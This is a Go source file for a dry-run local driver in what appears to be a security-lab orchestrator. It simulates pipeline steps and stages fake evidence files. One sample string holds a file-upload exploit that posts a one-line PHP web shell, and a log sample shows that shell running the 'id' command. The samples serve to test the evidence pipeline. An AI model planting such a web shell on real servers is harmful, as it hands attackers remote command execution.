package driver

import (
	"bytes"
	"context"
	stderrors "errors"
	"fmt"
	"sync"
	"time"

	"github.com/facebookgo/clock"

	"github.com/zerozero/octolab/internal/infrastructure/blob"
	"github.com/zerozero/octolab/internal/orchestrator"
	"github.com/zerozero/octolab/internal/orchestrator/pipeline"
	"github.com/zerozero/octolab/pkg/logger"
)

// granularTicks is how many progress reports the local driver emits for a
// step that reports progress
const granularTicks = 4

// LocalDriver is an in-process dry-run driver. Steps complete after a
// clock-driven delay; stopping containers stages sample evidence.
type LocalDriver struct {
	store   blob.Store
	clock   clock.Clock
	latency time.Duration
	log     logger.Logger

	mu       sync.Mutex
	released map[string]int
}

// NewLocalDriver creates a dry-run driver
func NewLocalDriver(store blob.Store, clk clock.Clock, latency time.Duration, log logger.Logger) *LocalDriver {
	if clk == nil {
		clk = clock.New()
	}
	return &LocalDriver{
		store:    store,
		clock:    clk,
		latency:  latency,
		log:      log.WithFields(logger.String("driver", "local")),
		released: make(map[string]int),
	}
}

// StartStep simulates one step
func (d *LocalDriver) StartStep(ctx context.Context, req orchestrator.StepRequest, r pipeline.Reporter) {
	log := d.log.WithFields(logger.String("session_id", req.SessionID), logger.String("step", req.Key))
	log.Debug("Simulating step")

	ticks := 1
	if req.Key == orchestrator.StepBuildContainerBundle {
		ticks = granularTicks
	}
	for i := 1; i <= ticks; i++ {
		t := d.clock.Timer(d.latency / time.Duration(ticks))
		select {
		case <-ctx.Done():
			t.Stop()
			log.Info("Simulated step stopped")
			r.Done(ctx.Err())
			return
		case <-t.C:
		}
		if i < ticks {
			r.Progress(i * 100 / ticks)
		}
	}

	if req.Key == orchestrator.StepStopContainers {
		if err := d.stageSamples(ctx, req); err != nil {
			log.Error("Failed to stage sample evidence", logger.Error(err))
			r.Done(err)
			return
		}
	}
	r.Done(nil)
}

// StopResources records the release; there is nothing to free
func (d *LocalDriver) StopResources(_ context.Context, sessionID string) error {
	d.mu.Lock()
	d.released[sessionID]++
	d.mu.Unlock()
	d.log.Info("Released simulated resources", logger.String("session_id", sessionID))
	return nil
}

// Released reports how many times a session's resources were released
func (d *LocalDriver) Released(sessionID string) int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.released[sessionID]
}

// EnumerateArtifacts lists the staged evidence of a session
func (d *LocalDriver) EnumerateArtifacts(ctx context.Context, sessionID string) ([]orchestrator.CollectedArtifact, error) {
	return EnumerateStaged(ctx, d.store, sessionID)
}

type sample struct {
	name    string
	kind    string
	content string
}

func samplesFor(req orchestrator.StepRequest) []sample {
	bp := req.Blueprint
	target := bp.Title()
	return []sample{
		{"exploit_poc.py", KindExploit, fmt.Sprintf("# proof of concept for %s\nimport requests\n\nTARGET = %q\nrequests.post(TARGET + \"/upload\", files={\"file\": (\"shell.php\", b\"<?php system($_GET['c']); ?>\")})\n", bp.CVE, bp.ContainerSpec.Image)},
		{"upload_response.pcap", KindPcap, "\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + "POST /upload HTTP/1.1\r\nHost: lab\r\n\r\n"},
		{"server_logs.txt", KindLog, fmt.Sprintf("[%s] lab %s\nPOST /upload 200\nGET /uploads/shell.php?c=id 200\n", target, req.SessionID)},
		{"rce_proof.png", KindScreenshot, "\x89PNG\r\n\x1a\n" + "uid=33(www-data) gid=33(www-data)"},
	}
}

func (d *LocalDriver) stageSamples(ctx context.Context, req orchestrator.StepRequest) error {
	for _, s := range samplesFor(req) {
		_, err := d.store.Put(ctx, blob.StagingPrefix(req.SessionID)+s.name, bytes.NewReader([]byte(s.content)), blob.PutOptions{
			Metadata: map[string]string{"name": s.name, "kind": s.kind},
		})
		if err != nil && !stderrors.Is(err, blob.ErrExists) {
			return fmt.Errorf("stage %s: %w", s.name, err)
		}
	}
	return nil
}
